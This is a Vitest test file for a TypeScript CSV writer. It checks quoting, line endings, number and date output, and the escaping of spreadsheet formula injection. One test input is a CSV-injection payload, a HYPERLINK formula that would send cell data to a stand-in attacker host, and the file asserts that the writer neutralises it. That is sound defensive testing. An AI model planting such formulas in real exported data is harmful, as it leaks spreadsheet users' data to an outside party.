import { describe, expect, it } from 'vitest'
import { toCsv } from './csv.ts'

const cellOf = (value: string) => toCsv(['h'], [[value]]).split('\r\n')[1]

describe('toCsv', () => {
  it('writes the header first and ends every record with CRLF', () => {
    expect(
      toCsv(
        ['token', 'value'],
        [
          ['A', '1.00'],
          ['B', '2.50'],
        ],
      ),
    ).toBe('token,value\r\nA,1.00\r\nB,2.50\r\n')
    expect(toCsv(['token', 'value'], [])).toBe('token,value\r\n')
  })

  it('quotes commas, double quotes and line breaks', () => {
    expect(toCsv(['a', 'b'], [['Smith, John', 'say "hi"']])).toBe('a,b\r\n"Smith, John","say ""hi"""\r\n')
    expect(toCsv(['a'], [['line 1\nline 2'], ['line 1\r\nline 2']])).toBe(
      'a\r\n"line 1\nline 2"\r\n"line 1\r\nline 2"\r\n',
    )
  })

  it('neutralises text a spreadsheet would run as a formula', () => {
    expect(cellOf('=HYPERLINK("https://evil.example/?d="&A1,"Click")')).toBe(
      `"'=HYPERLINK(""https://evil.example/?d=""&A1,""Click"")"`,
    )
    expect(cellOf('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)")
    expect(cellOf('+1')).toBe("'+1")
    expect(cellOf('-1+2')).toBe("'-1+2")
    expect(cellOf('\t=1+2')).toBe("'\t=1+2")
    expect(toCsv(['h'], [['\r=1+2']])).toBe(`h\r\n"'\r=1+2"\r\n`)
    // Full-width signs, which some spreadsheets read as their ASCII forms.
    expect(cellOf('＝1+2')).toBe("'＝1+2")
  })

  it('leaves ordinary text, and numbers passed as numbers, as they are', () => {
    expect(cellOf('ABCD-EFGH-2345-6789')).toBe('ABCD-EFGH-2345-6789')
    expect(cellOf('a=b')).toBe('a=b')
    expect(toCsv(['n', 'big', 'none', 'missing'], [[-12.5, -3n, null, undefined]])).toBe(
      'n,big,none,missing\r\n-12.5,-3,,\r\n',
    )
  })

  it('writes dates as ISO 8601 times', () => {
    expect(toCsv(['at'], [[new Date('2030-12-31T23:00:00Z')]])).toBe('at\r\n2030-12-31T23:00:00.000Z\r\n')
  })
})
